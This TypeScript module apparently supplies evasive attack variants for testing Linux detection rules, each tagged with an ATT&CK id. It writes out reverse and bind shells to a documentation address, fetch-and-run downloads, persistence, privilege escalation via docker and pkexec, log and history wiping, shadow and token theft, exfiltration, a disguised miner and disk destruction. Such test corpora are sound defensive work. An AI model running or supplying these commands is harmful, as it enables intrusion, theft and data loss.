/**
 * Techniques once more, in forms that were written without a look at the rules: what is missed here is a hole of theirs.
 *
 * @module
 */
import { PERSON, type Technique, WWW_DATA } from "./technique.ts";

export const VARIANTS: readonly Technique[] = [
  {
    name: "Reverse shell of PHP",
    id: "T1059.004",
    steps: ['php -r \'$s=fsockopen("203.0.113.9",4242);exec("/bin/sh -i <&3 >&3 2>&3");\''],
  },
  {
    name: "Reverse shell of Ruby",
    id: "T1059.004",
    steps: [
      'ruby -rsocket -e \'f=TCPSocket.open("203.0.113.9",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    ],
  },
  {
    name: "Reverse shell of awk",
    id: "T1059.004",
    steps: ["gawk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/4242\";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'"],
  },
  {
    name: "Reverse shell of Perl",
    id: "T1059.004",
    steps: [
      'perl -e \'use Socket;$i="203.0.113.9";$p=4242;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\'',
    ],
  },
  {
    name: "Reverse shell of socat",
    id: "T1095",
    steps: ["socat tcp:203.0.113.9:4242 exec:'bash -li',pty,stderr,setsid"],
  },
  {
    name: "Reverse shell of node",
    id: "T1059.004",
    steps: [
      'node -e \'(function(){var n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh",[]);var k=new n.Socket();k.connect(4242,"203.0.113.9",function(){k.pipe(s.stdin);s.stdout.pipe(k)})})()\'',
    ],
  },
  {
    name: "Netcat piped into a shell",
    id: "T1059.004",
    steps: ["sh -c 'nc 203.0.113.9 443 | bash | nc 203.0.113.9 444'"],
  },
  { name: "Bind shell of busybox", id: "T1095", steps: ["busybox nc -lp 4444 -e /bin/sh"] },
  { name: "Hexadecimal into a shell", id: "T1027", steps: ["bash -c 'echo 6964 | xxd -r -p | bash'"] },
  {
    name: "Download into the interpreter",
    id: "T1105",
    steps: ["bash -c 'wget -qO- http://203.0.113.9/a.py | python3 -'"],
  },
  {
    name: "Download, made executable and run at once",
    id: "T1105",
    steps: ["sh -c 'cd /tmp; curl -O http://203.0.113.9/m; chmod +x m; ./m'"],
  },
  {
    name: "Library loaded by the linker's file",
    id: "T1574.006",
    steps: ["bash -c 'echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload'"],
  },
  {
    name: "Timer of systemd at once",
    id: "T1053.006",
    steps: ["systemd-run --on-calendar=hourly sh -c 'curl http://203.0.113.9/x | sh'"],
  },
  { name: "File of cron from a temporary directory", id: "T1053.003", steps: ["cp /tmp/.job /etc/cron.d/sysstat2"] },
  { name: "Password of an account taken away", id: "T1098", steps: ["passwd -d daemon"] },
  { name: "Password of root set by a script", id: "T1098", steps: ["bash -c 'echo root:zz | chpasswd'"] },
  {
    name: "Shell of root through docker's group",
    id: "T1611",
    uid: PERSON,
    steps: ["docker run -v /:/h -it debian chroot /h bash"],
  },
  {
    name: "Namespace of process 1 entered",
    id: "T1611",
    steps: ["nsenter --target 1 --mount --uts --ipc --net --pid -- bash"],
  },
  {
    name: "Exploit of pkexec",
    id: "T1068",
    uid: PERSON,
    steps: [{ run: "''", file: "pkexec", setuid: true, env: { GCONV_PATH: "." } }],
  },
  {
    name: "Python with the setuid bit",
    id: "T1548.001",
    uid: PERSON,
    steps: [{ run: 'python3 -c \'import os;os.execl("/bin/sh","sh","-p")\'', setuid: true }],
  },
  { name: "Audit's rules deleted", id: "T1562.012", steps: ["auditctl -D"] },
  { name: "Firewall off", id: "T1562.004", steps: ["ufw disable"] },
  { name: "SELinux permissive", id: "T1562.001", steps: ["setenforce 0"] },
  { name: "Ring of the kernel's messages cleared", id: "T1070", steps: ["dmesg -C"] },
  { name: "Logins wiped", id: "T1070.002", steps: ["truncate -s0 /var/log/wtmp"] },
  { name: "Log linked to nowhere", id: "T1070.002", steps: ["ln -sf /dev/null /var/log/auth.log"] },
  { name: "History linked to nowhere", id: "T1070.003", steps: ["ln -sf /dev/null /root/.bash_history"] },
  { name: "Hashes joined and cracked", id: "T1110.002", steps: ["john --wordlist=rockyou.txt hashes"] },
  { name: "Password file copied", id: "T1003.008", steps: ["cp /etc/shadow /tmp/.s"] },
  { name: "Disk read past the file system", id: "T1003.008", steps: ["debugfs -R 'cat /etc/shadow' /dev/sda1"] },
  { name: "Files sent by scp to a bare address", id: "T1048", steps: ["scp -r /etc/ssh u@203.0.113.9:/tmp/"] },
  { name: "Home packed into ssh", id: "T1048", steps: ["bash -c 'tar czf - /home | ssh u@203.0.113.9 cat > h.tgz'"] },
  {
    name: "Database dumped and sent",
    id: "T1048",
    steps: ["sh -c 'mysqldump --all-databases | curl -F f=@- https://files.example.net/'"],
  },
  {
    name: "Token of the cluster read",
    id: "T1528",
    steps: ["cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
  },
  {
    name: "Accounts listed by a web shell",
    id: "T1087.001",
    uid: WWW_DATA,
    parent: "apache2",
    steps: ["cat /etc/passwd"],
  },
  {
    name: "Ports scanned by a shell",
    id: "T1046",
    steps: ["bash -c 'for p in 22 80 443 3306; do timeout 1 bash -c \"</dev/tcp/192.0.2.7/$p\" && echo $p; done'"],
  },
  {
    name: "Miner under another name",
    id: "T1496",
    steps: ["systemd-netd --donate-level 1 --coin monero -o 203.0.113.9:3333"],
  },
  { name: "Files overwritten", id: "T1485", steps: ["find /home -type f -exec shred -u {} ;"] },
  { name: "Snapshots destroyed", id: "T1490", steps: ["vgremove -f vg0/snap", "lvremove -f /dev/vg0/snap"] },
  { name: "File system made anew", id: "T1561.001", steps: ["mkfs.ext4 -F /dev/sdb1"] },
];
